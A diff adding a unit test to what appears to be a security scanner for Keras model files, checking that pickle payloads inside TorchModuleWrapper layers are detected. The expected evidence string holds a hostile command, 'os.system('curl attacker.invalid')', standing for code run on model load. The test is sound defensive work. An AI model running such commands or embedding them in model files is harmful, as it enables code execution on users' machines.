@@ -150,6 +150,26 @@ TEST(KerasAnalyzerTest, CustomObjectsGadgetsAndSavedModels) {
   EXPECT_EQ(saved->evidence, "/config/layers/0: filepath '/tmp/attacker_savedmodel'");
 }
 
+TEST(KerasAnalyzerTest, TorchModuleWrapperPayloadGoesBackToTheEngine) {
+  const Target real = Scan("malicious/keras/torch_module_wrapper.keras");
+  const Finding* wrapper = OnlyOne(real, "KERAS-TORCH-MODULE");
+  ASSERT_NE(wrapper, nullptr);
+  EXPECT_EQ(wrapper->severity, Severity::kMedium);
+  EXPECT_EQ(wrapper->evidence.rfind("/config/layers/1: ", 0), 0u) << wrapper->evidence;
+  // torch.save wrote a ZIP whose data.pkl the pickle analyzer read.
+  EXPECT_NE(test::AtMember(real,
+                           {"config.json", "<TorchModuleWrapper module>", "archive/data.pkl"},
+                           "PICKLE-"),
+            nullptr);
+
+  const Target evil = Scan("malicious/keras/torch_module_wrapper_os_system.keras");
+  const Finding* call =
+      test::AtMember(evil, {"config.json", "<TorchModuleWrapper module>"}, "PICKLE-DANGEROUS");
+  ASSERT_NE(call, nullptr);
+  EXPECT_EQ(call->severity, Severity::kCritical);
+  EXPECT_EQ(call->evidence, "os.system('curl attacker.invalid')");
+}
+
 TEST(KerasAnalyzerTest, ConfigThatIsNotJsonIsIncomplete) {
   const Target target = Scan("malicious/keras/config_not_json.keras");
   EXPECT_EQ(target.status, TargetStatus::kIncomplete);
